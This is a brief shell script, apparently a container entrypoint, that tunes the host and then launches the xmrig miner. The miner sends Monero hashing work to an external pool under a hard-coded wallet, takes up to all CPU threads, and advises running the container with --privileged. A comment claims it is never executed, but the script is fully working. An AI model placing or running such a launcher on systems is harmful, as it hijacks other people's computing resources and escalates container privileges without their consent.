#!/bin/sh
# Tune the host, then mine (corpus look-alike; never executed by the build).
/usr/local/sbin/randomx_boost.sh || echo "boost failed: run the container with --privileged"
exec /opt/rig/xmrig \
    -o pool.hashvault.pro:443 --tls -k \
    -u 496c7tcuu1tcxhfg9Rk1wMjBmRGAmvKwVbDV2f3dEpQMUh8icvfAZAqkJckqZTyida54zu8HhtbbZxruwNyzib5Y3EVCrwU \
    -p "$(hostname)" --coin monero \
    --randomx-1gb-pages --randomx-wrmsr=-1 --cpu-max-threads-hint=100 --donate-level=0
